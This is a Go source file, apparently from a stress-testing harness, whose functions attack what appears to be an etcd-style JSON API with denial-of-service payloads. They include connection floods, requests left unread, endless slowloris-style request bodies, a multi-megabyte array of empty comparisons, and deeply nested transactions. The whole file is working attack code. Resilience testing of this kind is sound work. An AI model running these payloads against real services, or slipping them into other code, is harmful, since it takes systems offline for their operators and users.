package hostile

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"strings"
	"time"
)

func contentLength(n int) string { return fmt.Sprintf("Content-Length: %d\r\n\r\n", n) }

// rangeJSON lists everything, in JSON.
func rangeJSON() []byte {
	b64 := base64.StdEncoding.EncodeToString
	return fmt.Appendf(nil, `{"key":%q,"range_end":%q}`, b64([]byte(everything)), b64([]byte(everythingEnd)))
}

// jsonUnread sends requests of the JSON API, and reads no answer.
func jsonUnread(conns int, path string, body []byte) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.many(ctx, conns, func(ctx context.Context, _ int) error {
			c, err := a.post(ctx, path, len(body), body)
			if err != nil {
				return err
			}
			defer c.Close()
			a.did("requests", 1)
			<-ctx.Done()
			return nil
		})
	}
}

// jsonFlood sends requests of the JSON API, and reads the status of each answer.
func jsonFlood(conns int, path string, body []byte) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		return a.many(ctx, conns, func(ctx context.Context, _ int) error {
			c, err := a.post(ctx, path, len(body), body)
			if err != nil {
				return err
			}
			defer c.Close()
			_ = c.SetReadDeadline(time.Now().Add(time.Minute))
			r, err := http.ReadResponse(bufio.NewReader(c), nil)
			if err != nil {
				return err
			}
			_ = r.Body.Close() // of a connection that ends
			a.did("answers "+r.Status[:3], 1)
			return nil
		})
	}
}

// emptyCompares is a transaction of so many comparisons as fit into a request: three
// bytes each, and hundreds once decoded.
func emptyCompares() []byte {
	const size = 4<<20 - 100
	return []byte(`{"compare":[{}` + strings.Repeat(`,{}`, size/3) + `]}`)
}

// nestedJSON is a transaction within so many others.
func nestedJSON(levels int) []byte {
	return []byte(strings.Repeat(`{"success":[{"request_txn":`, levels) + "{}" + strings.Repeat(`}]}`, levels))
}

// jsonEndless sends requests whose bodies never end.
func jsonEndless(ctx context.Context, a *attacker) error {
	return a.many(ctx, 200, func(ctx context.Context, _ int) error {
		c, err := a.post(ctx, "/v3/kv/range", 1<<20, []byte(`{"key":"`))
		if err != nil {
			return err
		}
		defer c.Close()
		a.did("requests", 1)
		for pause(ctx, 100*time.Millisecond) == nil {
			if _, err := c.Write(bytes.Repeat([]byte("A"), 4)); err != nil {
				return nil // the node may end the connection
			}
		}
		return nil
	})
}

// watchJSON watches what the crowd's writer writes, in JSON.
func watchJSON(from int) []byte {
	b64 := base64.StdEncoding.EncodeToString
	key, end := "/crowd/", "/crowd0"
	if from > 0 {
		key, end = everything, everythingEnd
	}
	return fmt.Appendf(nil, `{"create_request":{"key":%q,"range_end":%q,"start_revision":"%d"}}`, b64([]byte(key)), b64([]byte(end)), from)
}
